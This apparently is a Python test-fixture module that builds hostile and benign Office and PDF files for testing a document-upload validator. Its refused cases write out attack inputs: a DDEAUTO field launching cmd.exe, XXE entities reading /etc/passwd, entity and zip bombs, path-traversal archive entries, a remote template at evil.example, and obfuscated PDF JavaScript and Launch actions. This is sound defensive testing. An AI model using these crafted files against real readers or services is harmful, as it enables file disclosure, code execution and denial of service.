"""Files that strangers could send as documents, made here from nothing, each with the fate that it must meet.

`python -m tests.documents.hostile_documents FOLDER` writes them all into a folder, for trying them by hand.
"""

import io
import struct
import sys
import warnings
import zipfile
from collections.abc import Callable, Mapping
from functools import cache
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pikepdf
from openpyxl.comments import Comment
from PIL import Image

from tests.documents import hostile_pictures as pictures
from tests.documents.hostile_pictures import ACCEPTED, PLANTED, REFUSED, Case

CASES: list[Case] = []
SECRET = PLANTED.decode()

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def case(id: str, name: str, fate: str, says: str = "") -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def register(make: Callable[[], bytes]) -> Callable[[], bytes]:
        CASES.append(Case(id, name, fate, says, make))
        return make

    return register


def named(id: str) -> Case:
    return next(case for case in CASES if case.id == id)


# Good documents to start from


@cache
def good_docx() -> bytes:
    """A document with a heading, a table, a photo, a comment and everything that Word tells about its writer."""
    paper = docx.Document()
    paper.add_heading("《梁家河》学习材料", level=1)
    paragraph = paper.add_paragraph("七月集体学习：读书、讨论、交流体会。")
    paper.add_comment(paragraph.runs, text="请核对。", author=SECRET, initials=SECRET[:9])
    table = paper.add_table(rows=2, cols=2)
    table.cell(0, 0).text, table.cell(1, 1).text = "姓名", "甲"
    paper.add_picture(io.BytesIO(pictures.jpeg(400, 300)))
    paper.add_picture(io.BytesIO(pictures.saved(pictures.scene(200, 100), "PNG")))
    properties = paper.core_properties
    properties.author = properties.last_modified_by = properties.comments = properties.keywords = SECRET
    written = io.BytesIO()
    paper.save(written)
    planted = pictures.with_segments(pictures.segment(0xE1, b"Exif\0\0" + PLANTED), pictures.segment(0xFE, PLANTED))
    body = read(written.getvalue())["word/document.xml"].replace(b"</w:body>", b"<!--" + PLANTED + b"--></w:body>")
    return repacked(
        written.getvalue(),
        {
            "word/document.xml": body,
            "word/media/image1.jpg": planted,
            "word/media/image2.png": png_with_text(),
            "docProps/app.xml": f"<Properties><Company>{SECRET}</Company></Properties>".encode(),
            "docProps/custom.xml": f"<Properties><property name='{SECRET}'/></Properties>".encode(),
            "docProps/thumbnail.jpeg": PLANTED,
            "customXml/item1.xml": f"<x>{SECRET}</x>".encode(),
            "word/people.xml": f'<w:people xmlns:w="urn:x"><w:person w:author="{SECRET}"/></w:people>'.encode(),
        },
        comment=PLANTED,
    )


def png_with_text() -> bytes:
    whole = pictures.saved(pictures.scene(200, 100), "PNG")
    return whole[:33] + pictures.chunk(b"tEXt", b"Author\0" + PLANTED) + whole[33:]


@cache
def good_xlsx() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["姓名", "学时"])
    sheet.append(["甲", 2])
    sheet.append(["合计", "=SUM(B2:B2)"])
    sheet["A2"].comment = Comment("补学", SECRET)
    book.properties.creator = book.properties.lastModifiedBy = book.properties.description = SECRET
    written = io.BytesIO()
    book.save(written)
    return repacked(
        written.getvalue(),
        {
            "xl/workbook.xml": read(written.getvalue())["xl/workbook.xml"].replace(
                b"<workbookPr", b'<fileSharing userName="' + PLANTED + b'"/><workbookPr', 1
            ),
            "xl/printerSettings/printerSettings1.bin": PLANTED,
        },
    )


@cache
def good_pdf() -> bytes:
    """Two pages with a photo; its Info, XMP, page data and photo tell what they should not."""
    pdf = pikepdf.new()
    for _ in range(2):
        page = pdf.add_blank_page(page_size=(595, 842))
        photo = pdf.make_stream(
            pictures.with_segments(pictures.segment(0xE1, b"Exif\0\0" + PLANTED)),
            Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=800, Height=600, BitsPerComponent=8,
            ColorSpace=pikepdf.Name.DeviceRGB, Filter=pikepdf.Name.DCTDecode,
        )  # fmt: skip
        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=photo))
        page.Contents = pdf.make_stream(b"q 400 0 0 300 90 400 cm /Im0 Do Q 90 200 300 100 re S")
        page.obj["/PieceInfo"] = pikepdf.Dictionary(Maker=pikepdf.Dictionary(Private=pikepdf.String(SECRET)))
        page.obj["/PTEX.FileName"] = pikepdf.String(SECRET)
        page.Annots = pikepdf.Array([
            pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Highlight, T=pikepdf.String(SECRET),
                               Rect=[90, 200, 200, 300], QuadPoints=[90, 300, 200, 300, 90, 200, 200, 200], C=[1, 1, 0])
        ])  # fmt: skip
    pdf.docinfo["/Author"] = pdf.docinfo["/Title"] = pikepdf.String(SECRET)
    with pdf.open_metadata() as xmp:
        xmp["dc:creator"] = [SECRET]
    return saved(pdf)


def saved(pdf: pikepdf.Pdf, **options: Any) -> bytes:
    written = io.BytesIO()
    pdf.save(written, **options)
    return written.getvalue()


# Taking packages apart and putting them together


def read(package: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def repacked(package: bytes, parts: Mapping[str, bytes | None], *, comment: bytes = b"") -> bytes:
    """The package with these parts put in or, where None, left out."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {**read(package), **parts}.items():
            if data is not None:
                archive.writestr(name, data)
        archive.comment = comment
    return written.getvalue()


@cache
def plain_docx() -> bytes:
    paper = docx.Document()
    paper.add_paragraph("学习材料")
    written = io.BytesIO()
    paper.save(written)
    return written.getvalue()


def with_parts(**parts: bytes) -> bytes:
    return repacked(plain_docx(), parts)


def with_xml(body: bytes) -> bytes:
    head = f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}"><w:body>'.encode()
    return repacked(plain_docx(), {"word/document.xml": head + body + b"</w:body></w:document>"})


def with_relation(kind: str, target: str, *, external: bool, part: str = "word/_rels/document.xml.rels") -> bytes:
    old = read(plain_docx()).get(part) or f"<Relationships xmlns='{RELATIONS}'></Relationships>".encode()
    mode = 'TargetMode="External"' if external else ""
    line = f'<Relationship Id="rId99" Type="{R}/{kind}" Target="{target}" {mode}/></Relationships>'
    return repacked(plain_docx(), {part: old.replace(b"</Relationships>", line.encode())})


def with_entry(name: str, data: bytes = b"x", *, mode: int = 0, times: int = 1) -> bytes:
    written = io.BytesIO(plain_docx())
    with zipfile.ZipFile(written, "a") as archive:
        for _ in range(times):
            member = zipfile.ZipInfo(name)
            member.create_system, member.external_attr = 3, mode << 16
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                archive.writestr(member, data)
    return written.getvalue()


def patched(package: bytes, name: str, *, size: int | None = None, flags: int | None = None) -> bytes:
    """The package with another size or other flags in the central directory, and there only."""
    data = bytearray(package)
    at = package.index(b"PK\x01\x02")
    while data[at : at + 4] == b"PK\x01\x02":
        lengths = struct.unpack_from("<HHH", data, at + 28)
        if data[at + 46 : at + 46 + lengths[0]].decode() == name:
            if size is not None:
                struct.pack_into("<I", data, at + 24, size)
            if flags is not None:
                struct.pack_into("<H", data, at + 8, flags)
        at += 46 + sum(lengths)
    return bytes(data)


# Office


@case("d01", "宏.docx", REFUSED, "宏")
def _() -> bytes:
    types = read(plain_docx())["[Content_Types].xml"]
    macro = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    return repacked(plain_docx(), {"[Content_Types].xml": types.replace(DOCX_TYPE.encode(), macro)})


@case("d02", "学习材料.docx", REFUSED, "宏")
def _() -> bytes:
    return repacked(plain_docx(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(2000)})


@case("d03", "模板.docx", REFUSED, "模板")
def _() -> bytes:
    return with_relation(
        "attachedTemplate", "http://evil.example/t.dotm", external=True, part="word/_rels/settings.xml.rels"
    )


@case("d04", "对象.docx", REFUSED, "嵌入")
def _() -> bytes:
    return repacked(plain_docx(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(2000)})


@case("d05", "域.docx", REFUSED, "DDEAUTO")
def _() -> bytes:
    return with_xml(
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        b'<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


@case("d05b", "域.docx", REFUSED, "DDEAUTO")
def _() -> bytes:
    """The word cut into pieces, over two paragraphs."""
    return with_xml(
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> dde</w:instrText></w:r></w:p>'
        b"<w:p><w:r><w:instrText>au</w:instrText></w:r><w:r><w:instrText>to cmd</w:instrText></w:r></w:p>"
    )


@case("d05c", "域.docx", REFUSED, "DDE")
def _() -> bytes:
    return with_xml(b'<w:p><w:fldSimple w:instr="DDE cmd calc"/></w:p>')


@case("d06", "填充.docx", REFUSED, "展开")
def _() -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in read(plain_docx()).items():
            archive.writestr(name, data)
        with archive.open("word/media/zeros.xml", "w") as part:
            for _ in range(300):
                part.write(bytes(1 << 20))
    return written.getvalue()


@case("d06b", "填充.docx", REFUSED, "压缩异常")
def _() -> bytes:
    return repacked(plain_docx(), {"word/zeros.xml": bytes(50 << 20)})


@case("d07", "实体.docx", REFUSED, "结构异常")
def _() -> bytes:
    evil = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    return repacked(plain_docx(), {"word/document.xml": evil})


@case("d08", "实体.docx", REFUSED, "结构异常")
def _() -> bytes:
    entities = b'<!ENTITY a0 "ha">' + b"".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">'.encode() for n in range(1, 12))
    evil = b'<?xml version="1.0"?><!DOCTYPE x [' + entities + b"]><x>&a11;</x>"
    return repacked(plain_docx(), {"word/document.xml": evil})


@case("d08b", "实体.docx", REFUSED, "结构异常")
def _() -> bytes:
    evil = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    rels = "word/_rels/document.xml.rels"
    return repacked(plain_docx(), {rels: evil + read(plain_docx())[rels].partition(b"?>")[2]})


@case("d09", "路径.docx", REFUSED, "结构异常")
def _() -> bytes:
    return with_entry("../../../../tmp/evil")


@case("d10", "链接.docx", REFUSED, "结构异常")
def _() -> bytes:
    return with_entry("word/link.xml", b"/etc/passwd", mode=0o120777)


@case("d11", "重名.docx", REFUSED, "结构异常")
def _() -> bytes:
    return with_entry("word/document.xml", b"<x/>")


@case("d12", "很多.docx", REFUSED, "部件")
def _() -> bytes:
    written = io.BytesIO(plain_docx())
    with zipfile.ZipFile(written, "a") as archive:
        for number in range(70_000):
            archive.writestr(zipfile.ZipInfo(f"word/{number}.xml"), b"")
    return written.getvalue()


@case("d13", "加密.docx", REFUSED, "密码")
def _() -> bytes:
    return patched(plain_docx(), "word/document.xml", flags=1)


@case("d14", "旧版.docx", REFUSED, "旧版")
def _() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)


@case("d15", "大小.docx", REFUSED, "损坏")
def _() -> bytes:
    return patched(plain_docx(), "word/document.xml", size=10)


@case("d15b", "大小.docx", REFUSED, "损坏")
def _() -> bytes:
    """The directory says a kilobyte, the data unfolds to 50 MB."""
    return patched(repacked(plain_docx(), {"word/document.xml": bytes(50 << 20)}), "word/document.xml", size=1024)


@case("d16", "截断.docx", REFUSED, "损坏")
def _() -> bytes:
    return plain_docx()[: len(plain_docx()) // 2]


@case("d17", "材料.zip", REFUSED, ".docx")
def _() -> bytes:
    return repacked(plain_docx(), {})


@case("d17b", "材料.docx", REFUSED, "压缩包")
def _() -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("a.txt", "x")
    return written.getvalue()


@case("d18", "表格.docx", REFUSED, ".xlsx")
def _() -> bytes:
    return good_xlsx()


@case("d19", "图片.docx", REFUSED, "引用了文件之外")
def _() -> bytes:
    return with_relation("image", "http://evil.example/a.png", external=True)


@case("d40", "链接.xlsx", REFUSED, "其他工作簿")
def _() -> bytes:
    return repacked(good_xlsx(), {"xl/externalLinks/externalLink1.xml": b"<x/>"})


@case("d41", "矢量.docx", REFUSED, "EMF")
def _() -> bytes:
    return repacked(plain_docx(), {"word/media/image1.emf": b"x"})


@case("d42", "编码.docx", REFUSED, "结构异常")
def _() -> bytes:
    """A document type in UTF-7: readers that believe the declaration see it."""
    return repacked(plain_docx(), {"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-x/+AD4-'})


# PDF


def pdf_with(change: Callable[[pikepdf.Pdf], None], **options: Any) -> bytes:
    with pikepdf.open(io.BytesIO(good_pdf())) as pdf:
        change(pdf)
        return saved(pdf, **options)


def _action(kind: str, **more: Any) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name("/" + kind), **more))

    return change


@case("d20", "脚本.pdf", REFUSED, "脚本")
def _() -> bytes:
    return pdf_with(_action("JavaScript", JS=pikepdf.String("app.alert(1)")))


@case("d20b", "脚本.pdf", REFUSED, "脚本")
def _() -> bytes:
    """In a compressed object stream, where no search of the bytes finds it."""
    return pdf_with(
        _action("JavaScript", JS=pikepdf.String("app.alert(1)")),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )


@case("d21", "启动.pdf", REFUSED, "脚本")
def _() -> bytes:
    return pdf_with(_action("Launch", F=pikepdf.String("cmd.exe")))


@case("d22", "附件.pdf", REFUSED, "附件")
def _() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.attachments["a.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + bytes(100), filename="a.exe")

    return pdf_with(change)


@case("d22b", "表单.pdf", REFUSED, "表单程序")
def _() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=pdf.make_stream(b"<xdp/>"))

    return pdf_with(change)


@case("d22c", "动作.pdf", REFUSED, "动作")
def _() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].obj["/AA"] = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Named))

    return pdf_with(change)


@case("d23", "网页.pdf", REFUSED, "PDF")
def _() -> bytes:
    return b"<html><script>alert(1)</script></html>\n" + good_pdf()


@case("d24", "程序.pdf", REFUSED, "程序")
def _() -> bytes:
    return b"MZ\x90\0" + bytes(4096)


@case("d25", "密码.pdf", REFUSED, "密码")
def _() -> bytes:
    return pdf_with(lambda pdf: None, encryption=pikepdf.Encryption(owner="owner", user="user"))


@case("d25b", "限制.pdf", REFUSED, "限制")
def _() -> bytes:
    """Opens without a password, forbids printing."""
    return pdf_with(lambda pdf: None, encryption=pikepdf.Encryption(owner="owner", user=""))


@case("d26", "转义.pdf", REFUSED, "脚本")
def _() -> bytes:
    hidden = pdf_with(
        _action("JavaScript", JS=pikepdf.String("app.alert(1)")),
        object_stream_mode=pikepdf.ObjectStreamMode.disable,
    )
    assert b"/JavaScript" in hidden
    return hidden.replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS ", b"/#4AS ")


@case("d27", "测试.pdf", REFUSED, "PDF")
def _() -> bytes:
    return rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


@case("d28", "截断.pdf", REFUSED, "传全")
def _() -> bytes:
    return good_pdf()[: len(good_pdf()) // 2]


@case("d29", "空.pdf", REFUSED, "空文件")
def _() -> bytes:
    return b""


@case("d29b", "大.pdf", REFUSED, "20 MB")
def _() -> bytes:
    return b"%PDF-1.4\n" + bytes(21 << 20)


# Good ones


@case("d30", "七一主题党日学习材料（第一稿）.docx", ACCEPTED)
def _() -> bytes:
    return good_docx()


@case("d31", "学习材料.pdf", ACCEPTED)
def _() -> bytes:
    return good_pdf()


@case("d32", "名单.XLSX", ACCEPTED)
def _() -> bytes:
    return good_xlsx()


@case("d33", "压缩对象.pdf", ACCEPTED)
def _() -> bytes:
    return pdf_with(lambda pdf: None, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


@case("d34", "书签.pdf", ACCEPTED)
def _() -> bytes:
    """Opens on a page and links to a site, as printed papers do."""

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=[pdf.pages[0].obj, pikepdf.Name.Fit])
        pdf.pages[1].obj.Annots = [pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 50, 50],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.example.edu.cn/")),
        )]  # fmt: skip

    return pdf_with(change)


@case("d35", "链接.docx", ACCEPTED)
def _() -> bytes:
    return with_relation("hyperlink", "https://www.example.edu.cn/", external=True)


@case("d36", "目录.docx", ACCEPTED)
def _() -> bytes:
    """Fields that only count and refer."""
    return with_xml(
        b'<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        b'<w:r><w:instrText xml:space="preserve"> TOC \\o "1-3" </w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


@case("d37", "动图.docx", ACCEPTED)
def _() -> bytes:
    frames = [Image.effect_noise((20, 20), n).convert("P") for n in (10, 40)]
    gif = pictures.saved(frames[0], "GIF", save_all=True, append_images=frames[1:], comment=PLANTED)
    types = read(plain_docx())["[Content_Types].xml"].replace(
        b"<Default ", b'<Default Extension="gif" ContentType="image/gif"/><Default ', 1
    )
    return repacked(plain_docx(), {"word/media/image1.gif": gif, "[Content_Types].xml": types})


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    for made in CASES:
        (folder / f"{made.id} {made.name}").write_bytes(made.make())
